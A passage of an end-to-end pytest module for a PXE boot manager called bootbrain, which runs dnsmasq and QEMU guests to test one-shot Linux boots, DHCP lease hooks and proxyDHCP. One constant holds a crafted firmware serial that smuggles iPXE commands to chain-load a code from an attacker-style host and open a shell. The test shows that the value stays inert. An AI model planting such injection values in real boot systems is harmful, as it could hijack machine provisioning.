"""bootbrain + dnsmasq, end to end: real firmware, real iPXE, real kernel (issue 4, point 4).

Each site is a lab namespace (bridge ``br0`` = 10.213.0.1/24) holding:

* bootbrain under gunicorn (``python -m bootbrain serve``, 2 workers) on
  10.213.0.1:8080, with its own data directory, SQLite database and secret, configured
  only through ``BOOTBRAIN_*`` variables (and an empty ``BOOTBRAIN_CONFIG`` file, so
  the host's ``/etc/bootbrain`` never leaks in);
* dnsmasq configured by ``bootbrain dnsmasq config`` (the rendered file, checked
  with ``dnsmasq --test``), with bootbrain's reservations directory and the lease
  hook (``render_hook_wrapper`` + ``render_hook_conf``) as its ``dhcp-script``;
* a static file server for the Debian kernel and the lab initrd (``assets_url``).

The inventory is created through the REST API with a token from ``token create
--quiet``. QEMU guests with SMBIOS identity boot through the whole chain, and every
assertion is made from bootbrain's own records (events, machines, boot preview),
cross-checked with what the guest printed on its console and what dnsmasq logged.

The full-DHCP site is shared by the module (each test uses its own MACs, UUIDs and
addresses, so the tests stay independent); the proxyDHCP test builds its own site
beside a foreign DHCP server in a second namespace.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import shutil
import subprocess
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO, Any, TypeVar

import lab
import pytest

from bootbrain.hooks import leasehook

pytestmark = pytest.mark.e2e

T = TypeVar("T")

REPO = Path(__file__).resolve().parents[2]
PYTHON = sys.executable
PORT = 8080
BRIDGE = "br0"
SUBNET = "10.213.0.0/24"
GATEWAY = "10.213.0.1"
NETMASK = "255.255.255.0"
RANGE = ("10.213.0.100", "10.213.0.149")
#: The foreign DHCP server of the proxyDHCP test hands out these.
FOREIGN_RANGE = ("10.213.0.150", "10.213.0.199")
FOREIGN_ADDRESS = "10.213.0.2"

MANUFACTURER = "Lab Vendor Inc."
PRODUCT = "LabBox 9000"

#: The one-shot action: the i3D-style variables the script sets carry the static
#: address and the completion URL into the kernel's command line.
LINUX_PROFILE = "lab-linux"
LINUX_CMDLINE = "console=ttyS0 ${IPXE_BOOT_LINUX_IP_CONFIG} bootbrain.done=${IPXE_BOOT_DONE_URL}"
#: The default for unknown machines: no static assignment, so the OS uses DHCP.
DEFAULT_PROFILE = "lab-default"
DEFAULT_CMDLINE = "console=ttyS0 ip=dhcp bootbrain.done=${IPXE_BOOT_DONE_URL}"
LOCAL_PROFILE = "disk"

#: How long a guest that boots "from local disk" is watched after bootbrain recorded
#: its decision: long enough for iPXE to have fetched a kernel had it been told to.
LOCAL_BOOT_GRACE = 4.0
GUEST_TIMEOUT = 150.0

#: What the malicious guest's firmware reports as its serial: iPXE syntax that would
#: expand another setting, run a second command, comment out the rest, and continue
#: the line -- and a comma (written ",," on QEMU's command line).
EVIL_SERIAL = "X${manufacturer}Y && chain http://10.213.0.66/evil || shell ; #,\\"


def wait_until(what: str, fn: Callable[[], T | None], timeout: float, interval: float = 0.25) -> T:
    """Poll ``fn`` until it returns something truthy; fail naming ``what``."""
    deadline = time.monotonic() + timeout
    while True:
        value = fn()
        if value:
            return value
        if time.monotonic() > deadline:
            pytest.fail(f"timed out after {timeout:.0f}s waiting for {what}")
        time.sleep(interval)


def _http(
    method: str, url: str, body: bytes | None, headers: dict[str, str], timeout: float
) -> tuple[int, bytes]:
    # No proxies from the environment: every request stays inside the namespace.
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    req = urllib.request.Request(url, data=body, method=method, headers=headers)
    try:
        with opener.open(req, timeout=timeout) as resp:
            return int(resp.status), resp.read()
    except urllib.error.HTTPError as exc:
        return int(exc.code), exc.read()


# --------------------------------------------------------------------------- the site


@dataclass
class Site:
    """One lab network with bootbrain, its dnsmasq and the boot assets."""

    net: lab.LabNetwork
    workdir: Path
    boot_files: lab.BootFiles
    mode: str = "dhcp"
    port: int = PORT
    env: dict[str, str] = field(default_factory=dict)
    token: str = ""
    assets: lab.StubHTTPServer | None = None
    brain: subprocess.Popen[bytes] | None = None
    dnsmasq: lab.Dnsmasq | None = None
    config_text: str = ""
    #: The proxyDHCP test's foreign DHCP server (in a peer namespace).
    foreign: lab.Dnsmasq | None = None
    _brain_log: IO[bytes] | None = None

    # -- paths -------------------------------------------------------------------------

    @property
    def base_url(self) -> str:
        return f"http://{self.net.address}:{self.port}"

    @property
    def data_dir(self) -> Path:
        return self.workdir / "data"

    @property
    def hostsdir(self) -> Path:
        return self.workdir / "dnsmasq-hosts"

    @property
    def tftp_root(self) -> Path:
        return self.workdir / "tftp"

    @property
    def brain_log_path(self) -> Path:
        return self.workdir / "bootbrain.log"

    @property
    def assets_url(self) -> str:
        assert self.assets is not None
        return self.assets.url("").rstrip("/")

    # -- start-up ----------------------------------------------------------------------

    def start(self, extra_env: dict[str, str] | None = None) -> Site:
        self.workdir.mkdir(parents=True, exist_ok=True)
        self.data_dir.mkdir(exist_ok=True)
        self.hostsdir.mkdir(exist_ok=True)
        # The iPXE binaries, installed as the README tells operators to.
        self.tftp_root.mkdir(exist_ok=True)
        for name in lab.assets.IPXE_BOOT_FILES:
            shutil.copyfile(lab.ipxe_file(name), self.tftp_root / name)

        self.assets = lab.StubHTTPServer(self.net, self.net.address)
        self.assets.route("/" + lab.KERNEL_NAME, self.boot_files.vmlinuz)
        self.assets.route("/" + lab.INITRD_NAME, self.boot_files.initrd)
        self.assets.start()

        empty_config = self.workdir / "bootbrain.toml"
        empty_config.write_text("# empty: these tests configure bootbrain by environment\n")
        env = {k: v for k, v in os.environ.items() if not k.startswith("BOOTBRAIN_")}
        env.update(
            {
                "BOOTBRAIN_CONFIG": str(empty_config),
                "BOOTBRAIN_DATA_DIR": str(self.data_dir),
                "BOOTBRAIN_SECRET_KEY": secrets.token_urlsafe(32),
                "BOOTBRAIN_PUBLIC_URL": self.base_url,
                "BOOTBRAIN_ASSETS_URL": self.assets_url,
                "BOOTBRAIN_EVENT_FLUSH_INTERVAL": "0.1",
                "BOOTBRAIN_DHCP": "dnsmasq",
                "BOOTBRAIN_DNSMASQ__MODE": self.mode,
                "BOOTBRAIN_DNSMASQ__INTERFACE": BRIDGE,
                "BOOTBRAIN_DNSMASQ__SERVER_IP": self.net.address,
                "BOOTBRAIN_DNSMASQ__NETMASK": NETMASK,
                "BOOTBRAIN_DNSMASQ__RANGE_START": RANGE[0],
                "BOOTBRAIN_DNSMASQ__RANGE_END": RANGE[1],
                "BOOTBRAIN_DNSMASQ__LEASE_TIME": "1h",
                "BOOTBRAIN_DNSMASQ__TFTP_ROOT": str(self.tftp_root),
                "BOOTBRAIN_DNSMASQ__HOSTSDIR": str(self.hostsdir),
                "BOOTBRAIN_DNSMASQ__PID_FILE": str(self.workdir / "dnsmasq.pid"),
                "BOOTBRAIN_DNSMASQ__LEASE_FILE": str(self.workdir / "dnsmasq.leases"),
                "BOOTBRAIN_DNSMASQ__HOOK_SCRIPT": str(self.workdir / "dnsmasq-hook"),
                "BOOTBRAIN_DNSMASQ__HOOK_TOKEN_FILE": str(self.workdir / "leasehook.token"),
                "BOOTBRAIN_DNSMASQ__SPOOL_DIR": str(self.data_dir / "spool"),
                "PYTHONUNBUFFERED": "1",
                # gunicorn keeps a control socket under $HOME: one per site, not shared.
                "HOME": str(self.workdir),
            }
        )
        env.update(extra_env or {})
        self.env = env

        self.cli("init", "--no-admin-token")
        self.token = self.cli(
            "token", "create", "--name", "e2e", "--scope", "write", "--quiet"
        ).stdout.strip()
        assert self.token.startswith("bbt_"), self.token

        # gunicorn starts while the remaining commands run (they only touch files).
        self.start_brain(wait=False)
        self._install_hook()
        conf = self.render_dnsmasq_config()
        self.config_text = conf.read_text()
        # And checked once more as the operator would, in the namespace where br0 is.
        check = self.net.run(["dnsmasq", "--test", f"--conf-file={conf}"], check=False)
        assert check.returncode == 0, f"dnsmasq --test: {check.stderr}{check.stdout}"
        self.dnsmasq = lab.Dnsmasq(self.net, conf, workdir=self.workdir / "dnsmasq")
        wait_until("bootbrain /healthz", self._healthy, timeout=60)
        self.dnsmasq.start()
        return self

    def start_brain(self, *, wait: bool = True) -> None:
        """``bootbrain serve`` under gunicorn, inside the namespace."""
        assert self.brain is None or self.brain.poll() is not None
        self._brain_log = open(self.brain_log_path, "ab")  # noqa: SIM115 - closed in stop_brain()
        self.brain = self.net.popen(
            [PYTHON, "-m", "bootbrain", "serve", "--bind", f"{self.net.address}:{self.port}",
             "--workers", "2"],
            env=self.env, cwd=REPO, stdout=self._brain_log, stderr=subprocess.STDOUT,
        )  # fmt: skip
        if wait:
            wait_until("bootbrain /healthz", self._healthy, timeout=60)

    def stop_brain(self) -> None:
        if self.brain is not None:
            lab.stop_process(self.brain, timeout=10)
            self.net.forget(self.brain)
        if self._brain_log is not None:
            self._brain_log.close()
            self._brain_log = None

    def _healthy(self) -> bool:
        if self.brain is not None and self.brain.poll() is not None:
            pytest.fail(f"bootbrain exited with {self.brain.returncode}:\n{self.brain_log()}")
        try:
            status, _ = self.net.call(_http, "GET", self.base_url + "/healthz", None, {}, 2.0)
        except OSError:
            return False
        return status == 200

    def _install_hook(self) -> None:
        """dnsmasq's ``dhcp-script``: ``bootbrain dnsmasq hook`` installs the wrapper
        (at ``dnsmasq.hook_script``) and the hook's configuration."""
        token_file = Path(self.env["BOOTBRAIN_DNSMASQ__HOOK_TOKEN_FILE"])
        token = self.cli("token", "create", "--name", "leasehook", "--scope", "write", "--quiet")
        token_file.write_text(token.stdout.strip() + "\n")
        token_file.chmod(0o600)
        self.cli("dnsmasq", "hook", "--hook-config", str(self.workdir / "leasehook.conf"))
        wrapper = Path(self.env["BOOTBRAIN_DNSMASQ__HOOK_SCRIPT"])
        assert os.access(wrapper, os.X_OK), wrapper

    def render_dnsmasq_config(self) -> Path:
        """``bootbrain dnsmasq config --check -o FILE`` (validated with ``dnsmasq --test``)."""
        conf = self.workdir / "dnsmasq.conf"
        self.cli("dnsmasq", "config", "--check", "--output", str(conf))
        return conf

    # -- tear-down ---------------------------------------------------------------------

    def stop(self) -> None:
        if self.dnsmasq is not None:
            self.dnsmasq.stop()
        self.stop_brain()
        if self.assets is not None:
            self.assets.stop()

    # -- commands and the API ----------------------------------------------------------

    def cli(self, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
        proc = self.net.run(
            [PYTHON, "-m", "bootbrain", *args], env=self.env, cwd=REPO, check=False, timeout=60
        )
        if check and proc.returncode != 0:
            pytest.fail(f"bootbrain {' '.join(args)} failed ({proc.returncode}):\n{proc.stderr}")
        return proc

    def api(self, method: str, path: str, body: Any = None, expect: int = 200) -> Any:
        headers = {"Authorization": f"Bearer {self.token}", "Accept": "application/json"}
        data = None
        if body is not None:
            data = json.dumps(body).encode()
            headers["Content-Type"] = "application/json"
        status, raw = self.net.call(
            _http, method, f"{self.base_url}/api/v1{path}", data, headers, 15.0
        )
        assert status == expect, (
            f"{method} {path} -> {status}: {raw[:2000]!r}\n{self.brain_log(40)}"
        )
        return json.loads(raw) if raw else None

    def events(self, **query: str | int) -> list[dict[str, Any]]:
        qs = "&".join(f"{k}={v}" for k, v in {"limit": 1000, **query}.items())
        items: list[dict[str, Any]] = self.api("GET", f"/events?{qs}")["items"]
        return items

    def wait_events(
        self, what: str, count: int = 1, timeout: float = 20.0, **query: str | int
    ) -> list[dict[str, Any]]:
        return wait_until(
            what, lambda: e if len(e := self.events(**query)) >= count else None, timeout
        )

    def brain_log(self, tail: int = 80) -> str:
        try:
            text = self.brain_log_path.read_text(errors="replace")
        except FileNotFoundError:
            return ""
        return "\n".join(text.splitlines()[-tail:])

    def dnsmasq_log(self) -> str:
        return self.dnsmasq.log_text() if self.dnsmasq else ""

    def asset_fetches(self, client: str | None = None, since: float = 0.0) -> list[str]:
        assert self.assets is not None
        return [
            r.path
            for r in list(self.assets.requests)
            if r.time >= since and (client is None or r.client == client)
        ]

    # -- inventory ---------------------------------------------------------------------

    def add_common_inventory(self) -> None:
        self.api(
            "POST",
            "/networks",
            {"name": "lab", "cidr": SUBNET, "gateway": GATEWAY, "dns": [GATEWAY]},
            expect=201,
        )
        self.api("POST", "/profiles", {"name": LOCAL_PROFILE, "kind": "local"}, expect=201)
        for name, cmdline in ((LINUX_PROFILE, LINUX_CMDLINE), (DEFAULT_PROFILE, DEFAULT_CMDLINE)):
            profile = {
                "name": name,
                "kind": "linux",
                "kernel": "{{ assets }}/" + lab.KERNEL_NAME,
                "initrds": ["{{ assets }}/" + lab.INITRD_NAME],
                "cmdline": cmdline,
                "complete_state": "deployed",
            }
            self.api("POST", "/profiles", profile, expect=201)

    def add_machine(self, **fields: Any) -> dict[str, Any]:
        body = {"network": "lab", "profile": LOCAL_PROFILE, "state": "ready", **fields}
        machine: dict[str, Any] = self.api("POST", "/machines", body, expect=201)
        return machine

    def machine(self, machine_id: int) -> dict[str, Any]:
        machine: dict[str, Any] = self.api("GET", f"/machines/{machine_id}")
        return machine

    def diagnostics(self) -> str:
        return (
            f"--- bootbrain log tail ---\n{self.brain_log()}\n"
            f"--- dnsmasq log tail ---\n" + "\n".join(self.dnsmasq_log().splitlines()[-60:])
        )


def start_site(
    net: lab.LabNetwork, boot_files: lab.BootFiles, mode: str, extra_env: dict[str, str]
) -> Site:
    site = Site(net=net, workdir=net.workdir / f"site-{mode}", boot_files=boot_files, mode=mode)
    try:
        site.start(extra_env)
        site.add_common_inventory()
    except BaseException:
        site.stop()
        raise
    return site


@pytest.fixture(scope="module")
def site(
    lab_requirements: None, lab_boot_files: lab.BootFiles, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Site]:
    """The shared full-DHCP site; unknown machines get :data:`DEFAULT_PROFILE`."""
    with lab.LabNetwork(workdir=tmp_path_factory.mktemp("dnsmasq-e2e")) as net:
        s = start_site(net, lab_boot_files, "dhcp", {"BOOTBRAIN_DEFAULT_PROFILE": DEFAULT_PROFILE})
        try:
            yield s
        finally:
            s.stop()


# --------------------------------------------------------------------------- helpers


def smbios_for(tag: str, uuid: str, serial: str | None = None) -> lab.Smbios:
    return lab.Smbios(
        manufacturer=MANUFACTURER,
        product=PRODUCT,
        serial=serial if serial is not None else f"SN-E2E-{tag}",
        uuid=uuid,
        board_serial=f"BRD-E2E-{tag}",
        asset=f"ASSET-E2E-{tag}",
    )


def expected_facts(smbios: lab.Smbios, mac: str, mode: lab.Mode) -> dict[str, Any]:
    """What bootbrain must have recorded: the VM's SMBIOS and MAC, exactly."""
    bios = mode is lab.Mode.BIOS
    return {
        "uuid": smbios.uuid,
        "mac": mac,
        "serial": smbios.serial,
        "board_serial": smbios.board_serial,
        "manufacturer": smbios.manufacturer,
        "product": smbios.product,
        "asset": smbios.asset,
        "buildarch": "i386" if bios else "x86_64",
        "platform": "pcbios" if bios else "efi",
    }


def ip_config(address: str, hostname: str) -> str:
    return f"ip={address}::{GATEWAY}:{NETMASK}:{hostname}:eth0:none:{GATEWAY}"


def console_cmdline(result: lab.BootResult) -> str:
    match = re.search(r"BOOTBRAIN-LAB: cmdline (.*)", result.text)
    assert match, result.describe()
    return match.group(1).strip()


def completion_for(site: Site, boot_id: str, **query: str | int) -> dict[str, Any]:
    """The completion event of boot ``boot_id``."""

    def find() -> dict[str, Any] | None:
        for event in site.events(kind="completion", **query):
            if event["data"].get("boot_id") == boot_id:
                return event
        return None

    return wait_until(f"the completion event of boot {boot_id}", find, timeout=20)


def boot_guest(site: Site, guest: lab.Guest) -> lab.BootResult:
    start = time.monotonic()
    result = guest.boot(timeout=GUEST_TIMEOUT)
    print(f"{guest.name}: {guest.mode} boot took {result.duration:.1f}s "
          f"(wall {time.monotonic() - start:.1f}s)")  # fmt: skip
    assert result.ok, result.describe() + "\n" + site.diagnostics()
    return result


def boot_again_locally(site: Site, machine_id: int, make_guest: Callable[[str], lab.Guest]) -> None:
    """Boot the same VM again: bootbrain must now send it to local boot.

    The guest has no disk, so "local boot" ends in firmware idling; the run is bounded:
    it is watched until bootbrain recorded the second decision, plus a grace period in
    which a kernel fetch would have shown up, then stopped.
    """
    before = len(site.events(kind="boot", machine_id=machine_id))
    started = time.monotonic()
    guest = make_guest("again")
    with guest:
        events = site.wait_events(
            "the second boot decision",
            count=before + 1,
            timeout=90,
            kind="boot",
            machine_id=machine_id,
        )
        time.sleep(LOCAL_BOOT_GRACE)
        result = guest.kill()
    print(f"{guest.name}: local boot watched for {result.duration:.1f}s")
    for event in events[before:]:
        assert event["data"]["step"] == "assigned", event
        assert event["data"]["profile"] == LOCAL_PROFILE, event
        assert event["data"]["boot_id"] is None, event  # no token: nothing to complete
    assert site.asset_fetches(since=started) == [], "a kernel was fetched on local boot"
    assert "BOOTBRAIN-LAB" not in result.text, result.describe()
    assert "Linux version" not in result.text, result.describe()


def assert_booted_action(
    site: Site,
    *,
    machine: dict[str, Any],
    mac: str,
    mode: lab.Mode,
    smbios: lab.Smbios,
    result: lab.BootResult,
    address: str,
    hostname: str,
    dhcp_address: str,
) -> dict[str, Any]:
    """A one-shot linux action booted and completed; returns the boot event."""
    mid = machine["id"]
    boots = site.wait_events("the boot event", kind="boot", machine_id=mid)
    # The firmware may re-request /ipxe; the completed boot is the one that counts.
    for event in boots:
        assert event["data"]["step"] == "action", event
        assert event["data"]["profile"] == LINUX_PROFILE, event
        assert event["data"]["facts"] == expected_facts(smbios, mac, mode), event
        assert event["data"]["user_agent"].startswith("iPXE/"), event
        assert event["mac"] == mac, event
        assert event["ip"] == dhcp_address, event  # iPXE's own DHCP address
    boot = boots[-1]
    completion = completion_for(site, boot["data"]["boot_id"], machine_id=mid)
    assert completion["machine_id"] == mid
    assert completion["data"]["consumed_action"] == LINUX_PROFILE, completion
    assert completion["data"]["step"] == "action", completion
    assert completion["data"]["report"] == {
        "ip": f"{address}/24",
        "hostname": hostname,
        "iface": "eth0",
    }, completion
    assert completion["ip"] == address, completion  # the POST came from the static address

    # What the guest actually ran: iPXE expanded the script's variables into this.
    cmdline = console_cmdline(result)
    assert ip_config(address, hostname) in cmdline.split(), cmdline
    done = re.search(rf"bootbrain\.done={re.escape(site.base_url)}/boot/([A-Za-z0-9_-]+)/done\b",
                     cmdline)  # fmt: skip
    assert done, cmdline
    assert "${" not in cmdline, cmdline
    assert f"BOOTBRAIN-LAB-DONE status=ok ip={address}/24 hostname={hostname}" in result.text
    # The kernel and initrd came from assets_url, fetched by iPXE itself.
    fetched = [
        (r.path, r.user_agent.split("/")[0])
        for r in list(site.assets.requests if site.assets else [])
        if r.client == dhcp_address and r.path in ("/vmlinuz", "/initrd.gz")
    ]
    assert ("/vmlinuz", "iPXE") in fetched and ("/initrd.gz", "iPXE") in fetched, fetched

    after = site.machine(mid)
    assert after["next_boot"] is None, after
    assert after["state"] == "deployed", after
    assert after["last_seen_ip"] == address, after
    return boot


def assert_preview_is_action(
    site: Site, machine_id: int, address: str, hostname: str, mode: lab.Mode
) -> str:
    query = "buildarch=i386&platform=pcbios" if mode is lab.Mode.BIOS else ""
    preview = site.api("GET", f"/machines/{machine_id}/boot-preview?{query}")
    assert preview["step"] == "action", preview
    assert preview["profile"] == LINUX_PROFILE, preview
    script: str = preview["script"]
    assert script.startswith("#!ipxe\n"), script
    assert f"set IPXE_BOOT_LINUX_IP_CONFIG {ip_config(address, hostname)}\n" in script, script
    assert re.search(
        rf"^kernel .*{re.escape(site.assets_url)}/vmlinuz .*initrd=initrd\.gz", script, re.M
    ), script
    assert re.search(rf"^initrd .*{re.escape(site.assets_url)}/initrd\.gz", script, re.M), script
    assert "${IPXE_BOOT_LINUX_IP_CONFIG}" in script, script
    return script


# --------------------------------------------------------------------------- tests


def one_shot_scenario(
    site: Site,
    *,
    tag: str,
    mode: lab.Mode,
    nic_model: str,
    romfile: str | None,
    uuid: str,
    address: str,
    hostname: str,
) -> None:
    mac = lab.random_mac()
    smbios = smbios_for(tag, uuid)
    machine = site.add_machine(
        hostname=hostname,
        uuid=uuid,
        serial=smbios.serial,
        manufacturer=MANUFACTURER,
        product=PRODUCT,
        nics=[{"mac": mac, "boot": True}],
        address=address,
    )
    mid = machine["id"]
    # The reservation bootbrain wrote for dnsmasq (so firmware and iPXE get it too).
    reservation = site.hostsdir / f"machine-{mid}.hosts"
    assert reservation.read_text() == f"{mac},{address},{hostname}\n"
    site.api("PUT", f"/machines/{mid}/next-boot", {"profile": LINUX_PROFILE})
    assert_preview_is_action(site, mid, address, hostname, mode)

    def make_guest(suffix: str) -> lab.Guest:
        return lab.Guest(
            site.net,
            mode=mode,
            nics=[lab.Nic(model=nic_model, mac=mac, romfile=romfile)],
            smbios=smbios,
            name=f"{tag.lower()}-{suffix}",
        )

    result = boot_guest(site, make_guest("first"))
    assert_booted_action(
        site,
        machine=machine,
        mac=mac,
        mode=mode,
        smbios=smbios,
        result=result,
        address=address,
        hostname=hostname,
        dhcp_address=address,
    )
    log = site.dnsmasq_log()
    assert re.search(rf"DHCPACK\({BRIDGE}\) {re.escape(address)} {mac}", log), log

    # The action is consumed: the machine's assigned profile (local boot) is next.
    preview = site.api(
        "GET",
        f"/machines/{mid}/boot-preview"
        + ("?buildarch=i386&platform=pcbios" if mode is lab.Mode.BIOS else ""),
    )
    assert (preview["step"], preview["profile"]) == ("assigned", LOCAL_PROFILE), preview
    assert "\nexit" in preview["script"] and "kernel" not in preview["script"], preview
    boot_again_locally(site, mid, make_guest)


def test_bios_full_dhcp_one_shot_linux(site: Site) -> None:
    """SeaBIOS + iPXE ROM: identity, the action, static ip=, completion, then local boot."""
    one_shot_scenario(
        site,
        tag="BIOS",
        mode=lab.Mode.BIOS,
        nic_model="e1000",
        romfile=None,
        uuid="4c4c4544-0042-3610-8052-b4c04f4e0001",
        address="10.213.0.50",
        hostname="node-bios",
    )


def test_uefi_full_dhcp_one_shot_linux(site: Site) -> None:
    """OVMF's own PXE client: dnsmasq's arch match sends snponly.efi by TFTP, then the
    same chain as BIOS."""
    one_shot_scenario(
        site,
        tag="UEFI",
        mode=lab.Mode.UEFI_NATIVE,
        nic_model="virtio",
        romfile="",
        uuid="4c4c4544-0042-3610-8052-b4c04f4e0002",
        address="10.213.0.51",
        hostname="node-uefi",
    )
    log = site.dnsmasq_log()
    assert re.search(r"sent \S+/snponly\.efi to 10\.213\.0\.51\b", log), log


def test_unknown_machine_gets_the_default(site: Site) -> None:
    """Not in the inventory: the configured default profile boots and phones home."""
    mac = lab.random_mac()
    uuid = "4c4c4544-0042-3610-8052-b4c04f4e0003"
    smbios = smbios_for("UNKNOWN", uuid)
    assert site.api("GET", f"/machines?mac={mac}")["items"] == []
    # The CLI preview for a machine that is not in the inventory.
    render = site.cli(
        "render", "--mac", mac, "--uuid", uuid, "--serial", smbios.serial or "",
        "--manufacturer", MANUFACTURER, "--buildarch", "i386", "--platform", "pcbios",
    )  # fmt: skip
    assert "step default" in render.stderr and DEFAULT_PROFILE in render.stderr, render.stderr
    assert "ip=dhcp" in render.stdout and "IPXE_BOOT_LINUX_IP_CONFIG" not in render.stdout

    guest = lab.Guest(site.net, mode=lab.Mode.BIOS, nics=[lab.Nic(mac=mac)], smbios=smbios,
                      name="unknown")  # fmt: skip
    result = boot_guest(site, guest)

    boots = site.wait_events("the unknown machine's boot event", kind="boot", mac=mac)
    for event in boots:
        assert event["machine_id"] is None, event
        assert event["data"]["step"] == "default", event
        assert event["data"]["profile"] == DEFAULT_PROFILE, event
        assert event["data"]["facts"] == expected_facts(smbios, mac, lab.Mode.BIOS), event
    completion = completion_for(site, boots[-1]["data"]["boot_id"])
    assert completion["machine_id"] is None, completion
    leased = completion["data"]["report"]["ip"]
    address, prefix = leased.split("/")
    assert prefix == "24" and RANGE[0] <= address <= RANGE[1], completion  # same-length octets
    assert completion["ip"] == address
    assert f"BOOTBRAIN-LAB-DONE status=ok ip={leased}" in result.text
    assert "ip=dhcp" in console_cmdline(result).split()
    # Discovery is off: booting registered nothing.
    assert site.api("GET", f"/machines?mac={mac}")["items"] == []


def test_malicious_smbios_serial_is_inert(site: Site) -> None:
    """A serial full of iPXE syntax is recorded byte for byte, identifies its machine
    (manufacturer + serial, the only key the inventory has for it) and reaches no
    script: the guest boots exactly the intended one."""
    mac = lab.random_mac()
    uuid = "4c4c4544-0042-3610-8052-b4c04f4e0004"
    address, hostname = "10.213.0.52", "node-inert"
    smbios = smbios_for("EVIL", uuid, serial=EVIL_SERIAL)
    assert ",," in " ".join(smbios.qemu_args())  # the comma survives QEMU's parser
    machine = site.add_machine(
        hostname=hostname, serial=EVIL_SERIAL, manufacturer=MANUFACTURER, address=address
    )
    mid = machine["id"]
    assert site.machine(mid)["serial"] == EVIL_SERIAL
    site.api("PUT", f"/machines/{mid}/next-boot", {"profile": LINUX_PROFILE})
    preview = assert_preview_is_action(site, mid, address, hostname, lab.Mode.BIOS)

    guest = lab.Guest(site.net, mode=lab.Mode.BIOS, nics=[lab.Nic(mac=mac)], smbios=smbios,
                      name="evil")  # fmt: skip
    result = boot_guest(site, guest)
    assert result.dmi()["product_serial"] == EVIL_SERIAL  # the VM really reported it

    boots = site.wait_events("the malicious machine's boot event", kind="boot", machine_id=mid)
    for event in boots:
        assert event["data"]["facts"]["serial"] == EVIL_SERIAL, event  # exact, unexpanded
        assert "problems" not in event["data"]["facts"], event
        assert event["data"]["facts"] == expected_facts(smbios, mac, lab.Mode.BIOS), event
        assert event["data"]["step"] == "action", event
    completion = completion_for(site, boots[-1]["data"]["boot_id"], machine_id=mid)
    assert completion["data"]["report"]["ip"] == f"{address}/24", completion
    assert completion["data"]["consumed_action"] == LINUX_PROFILE

    cmdline = console_cmdline(result)
    for text in (preview, cmdline):
        for fragment in (
            EVIL_SERIAL,
            EVIL_SERIAL.encode().hex(),
            "${manufacturer}",
            "XLab",
            "/evil",
            "10.213.0.66",
            "shell",
        ):
            assert fragment not in text, (fragment, text)
    assert ip_config(address, hostname) in cmdline.split(), cmdline
    assert not any("evil" in r.target for r in list(site.assets.requests if site.assets else [])), (
        "the guest fetched something the serial named"
    )


def test_lease_events_reach_bootbrain(site: Site) -> None:
    """dnsmasq's dhcp-script (the shipped hook) reports the guest's lease to bootbrain;
    the reservation bootbrain wrote is what the guest was given."""
    mac = lab.random_mac()
    address, hostname = "10.213.0.53", "node-lease"
    machine = site.add_machine(
        hostname=hostname, nics=[{"mac": mac, "boot": True}], address=address
    )
    mid = machine["id"]
    guest = lab.Guest(site.net, mode=lab.Mode.BIOS, nics=[lab.Nic(mac=mac)], name="lease")
    with guest:
        boots = site.wait_events("the lease guest's boot", kind="boot", machine_id=mid, timeout=90)
        leases = site.wait_events("a lease event", kind="lease", mac=mac, timeout=20)
        guest.kill()
    assert boots[0]["ip"] == address and boots[0]["data"]["step"] == "assigned", boots
    added = [e for e in leases if e["data"].get("action") == "add"]
    assert added, leases
    event = added[0]
    assert event["ip"] == address, event
    assert event["machine_id"] == mid, event
    assert event["data"]["source"] == "dnsmasq", event
    assert event["data"].get("user_class") == "iPXE", event
    assert event["data"].get("arch") == 0, event  # PXEClient:Arch:00000 (BIOS)
    after = site.machine(mid)
    assert after["last_seen_ip"] == address, after


def test_lease_spooled_while_bootbrain_is_down_is_replayed(site: Site) -> None:
    """bootbrain stopped: the hook spools the guest's lease on disk (dnsmasq is not held
    up), and ``bootbrain serve`` records it when it starts again."""
    mac = lab.random_mac()
    address, hostname = "10.213.0.54", "node-spool"
    machine = site.add_machine(
        hostname=hostname, nics=[{"mac": mac, "boot": True}], address=address
    )
    mid = machine["id"]
    spool = site.data_dir / "spool"
    before = set(leasehook.spooled(spool))
    site.stop_brain()
    try:
        guest = lab.Guest(site.net, mode=lab.Mode.BIOS, nics=[lab.Nic(mac=mac)], name="spool")
        with guest:
            new = wait_until(
                "a spooled lease event",
                lambda: [p for p in leasehook.spooled(spool) if p not in before],
                timeout=90,
            )
            guest.kill()
        spooled = [json.loads(p.read_text()) for p in new]
        assert any(e["mac"] == mac and e["ip"] == address for e in spooled), spooled
        assert re.search(rf"DHCPACK\({BRIDGE}\) {re.escape(address)} {mac}", site.dnsmasq_log())
    finally:
        site.start_brain()
    assert re.search(r"recorded [1-9]\d* lease event\(s\) spooled", site.brain_log()), (
        site.brain_log()
    )
    leases = site.wait_events("the replayed lease event", kind="lease", mac=mac, timeout=10)
    assert any(e["ip"] == address and e["machine_id"] == mid for e in leases), leases
    assert not [p for p in new if p.exists()], "replayed events are still spooled"
    assert site.machine(mid)["last_seen_ip"] == address


@pytest.fixture
def proxy_site(lab_net: lab.LabNetwork, lab_boot_files: lab.BootFiles) -> Iterator[Site]:
    """A foreign DHCP server (dnsmasq, addresses only) in a peer namespace, and
    bootbrain with its dnsmasq in proxyDHCP mode."""
    peer = lab_net.add_peer(f"{FOREIGN_ADDRESS}/24")
    # An IPv6 router advertisement from the foreign side spares iPXE ~13 s of waiting
    # for IPv6; proxy mode adds no RA of its own.
    peer.ip("-6", "addr", "add", "fd42:b00b::2/64", "dev", "eth0", "nodad")
    foreign_dir = lab_net.workdir / "foreign"
    foreign_dir.mkdir()
    conf = foreign_dir / "dnsmasq.conf"
    conf.write_text(
        "\n".join(
            [
                "port=0",
                "interface=eth0",
                "bind-interfaces",
                "dhcp-authoritative",
                "no-ping",
                "log-dhcp",
                f"dhcp-range={FOREIGN_RANGE[0]},{FOREIGN_RANGE[1]},{NETMASK},1h",
                f"dhcp-option=option:router,{GATEWAY}",
                "enable-ra",
                "dhcp-range=::,constructor:eth0,ra-only",
            ]
        )
        + "\n"
    )
    foreign = lab.Dnsmasq(peer, conf, workdir=foreign_dir)
    foreign.start()
    site = start_site(lab_net, lab_boot_files, "proxy", {})
    site.foreign = foreign
    try:
        yield site
    finally:
        site.stop()
        foreign.stop()


def test_bios_proxy_dhcp_beside_a_foreign_server(proxy_site: Site) -> None:
    """Another server hands out addresses; bootbrain's dnsmasq adds only the boot
